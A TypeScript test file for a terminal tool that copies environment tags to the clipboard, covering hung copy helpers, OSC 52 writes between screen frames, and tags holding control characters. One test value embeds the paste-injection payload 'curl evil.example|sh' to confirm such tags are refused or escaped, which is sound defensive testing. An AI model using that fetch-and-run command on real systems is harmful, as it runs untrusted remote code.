import {describe, expect, it, onTestFinished} from 'vitest';
import {writeProgram} from '../helpers/clipboard/copying.ts';
import type {FinishedRun} from '../helpers/faults/checks.ts';
import {makeDirectory} from '../helpers/program/directory.ts';
import {isRunning} from '../helpers/program/processes.ts';
import {itLong} from '../helpers/project/torture.ts';
import {responseOf, startFaultServer} from '../helpers/service/fault-server.ts';
import {openSession} from '../helpers/terminal/session.ts';
import type {Terminal} from '../helpers/terminal/terminal.ts';

const tags = ['os:ubuntu-22.04-amd64', 'locale:en-us'];
const copied = tags.join();
const sent = `sent to the terminal's clipboard: ${copied}`;

describe('a tool that copies', () => {
	itLong('that hangs is killed after 2 s, and the terminal copies instead', () =>
		expectCopy({tools: {xclip: 'sleep 600 & echo $$ $! > "$HOME/pids"; wait'}}, async run => {
			expect(run.stderr).toBe(`${sent}; xclip failed: timed out after 2 s\n`);
			expect(run.arrived).toEqual([copied]);
			expect(run.time).toBeGreaterThan(1900);
			const pids = run.left('pids')?.trim().split(' ') ?? [];
			expect(pids).toHaveLength(2);
			await expect.poll(() => pids.map(Number).filter(isRunning)).toEqual([]);
		}),
	);

	it('that stays in the background to serve the clipboard is not awaited', () => {
		const xclip = 'exec 3<&0; cat > "$HOME/copied"; sleep 600 <&3 & echo $! > "$HOME/pid"; exit 0';
		return expectCopy({tools: {xclip}}, ({stderr, arrived, left}) => {
			const pid = Number(left('pid'));
			onTestFinished(() => void process.kill(pid));
			expect({stderr, arrived}).toEqual({stderr: `copied ${copied}\n`, arrived: []});
			expect(left('copied')).toBe(copied);
			expect(isRunning(pid)).toBe(true);
		});
	});
});

describe('a copy by the terminal', () => {
	it('is reported as sent and not confirmed, on and after the screen', () => {
		const use = async (terminal: Terminal) => {
			terminal.press('ctrl+y');
			await terminal.waitForText(`✓ ${sent}`);
			expect(terminal.screen()).not.toContain('copied');
			terminal.press('enter');
		};
		return expectCopy({use}, ({stderr, arrived}) => {
			expect({stderr, arrived}).toEqual({stderr: `${sent}\n`, arrived: [copied, copied]});
		});
	});

	it('is written whole and in no frame, while the screen is drawn', () => {
		const use = async (terminal: Terminal) => {
			for (let copies = 1; copies <= 5; copies++) {
				terminal.press('backspace', 'ctrl+y');
				terminal.type('u');
				terminal.resize(150 + copies, 20 + (copies % 2));
				await terminal.waitFor(() => terminal.clipboard.length === copies, `copy ${copies}`);
			}
			terminal.press('enter');
		};
		return expectCopy({use, arguments: ['--clipboard', 'osc52']}, ({arrived, written}) => {
			expect(arrived).toEqual(Array(6).fill(copied));
			const betweenFrames = written.replaceAll(/\x1b\[\?2026h.*?\x1b\[\?2026l/gs, '');
			expect(betweenFrames.split(`\u001b]52;c;${btoa(copied)}\u0007`)).toHaveLength(7);
			expect(written.split('\u001b]52;')).toHaveLength(7);
		});
	});
});

describe('a tag that acts when pasted', () => {
	const hostile = 'os:x\ncurl evil.example|sh\n';
	const shown = 'os:x^Jcurl evil.example|sh^J';

	it('is refused, and the reason is given', () => {
		const use = async (terminal: Terminal) => {
			terminal.press('enter');
			await terminal.waitForText(`\`${shown}\` cannot be written as comma (it contains a control character); use json`);
			terminal.press('ctrl+c');
		};
		return expectCopy({tags: [hostile], use, exitCode: 130}, ({stderr, arrived}) => {
			expect({stderr, arrived}).toEqual({stderr: '', arrived: []});
		});
	});

	it('is copied as JSON on one line, without a final line break', () =>
		expectCopy(
			{tags: [hostile], arguments: ['--as', 'json'], tools: {xclip: 'cat > "$HOME/copied"'}},
			({stderr, left}) => {
				const text = JSON.stringify([hostile]);
				expect(stderr).toBe(`copied ${text}\n`);
				expect(left('copied')).toBe(text);
			},
		));
});

type CopyScene = {
	/** The only tools, each as a shell script. */
	readonly tools?: Readonly<Record<string, string>>;
	/** The tags of the one environment of the listing. */
	readonly tags?: readonly string[];
	readonly arguments?: readonly string[];
	/** Keys and other actions in the list; by default Enter. */
	readonly use?: (terminal: Terminal) => void | Promise<void>;
	readonly exitCode?: number;
};

/** `arrived` is on the terminal's clipboard, and `left` finds the content of a file that a tool wrote in the home. */
type CopyRun = FinishedRun & {
	readonly arrived: readonly string[];
	readonly left: (name: string) => string | undefined;
};

/** Runs the program on a terminal until it has copied, and checks the run. */
const expectCopy = async (scene: CopyScene, expectMore: (run: CopyRun) => void | Promise<void>) => {
	const body = JSON.stringify({data: [{resources: [{tags: scene.tags ?? tags}]}]});
	const server = await startFaultServer(responseOf(200, body));
	const directory = await makeDirectory();
	for (const [name, script] of Object.entries(scene.tools ?? {})) {
		writeProgram(directory, name, script);
	}
	const {terminal, held} = openSession(['--base-url', server.base, ...(scene.arguments ?? [])], {
		// No program can reach this display here.
		env: {DISPLAY: ':4242'},
		before: `exec 2>stderr; export PATH=${directory}`,
		columns: 160,
	});
	await terminal.waitForText(/❯ +\S/);
	await (scene.use ?? (({press}) => press('enter')))(terminal);
	const run = await held(scene.exitCode ?? 0, {within: 8000, server, paths: ['/v0/resources'], isCopying: true});
	const left = (name: string) => run.files.find(([path]) => path === `home/${name}`)?.[1];
	await expectMore({...run, arrived: terminal.clipboard, left});
};
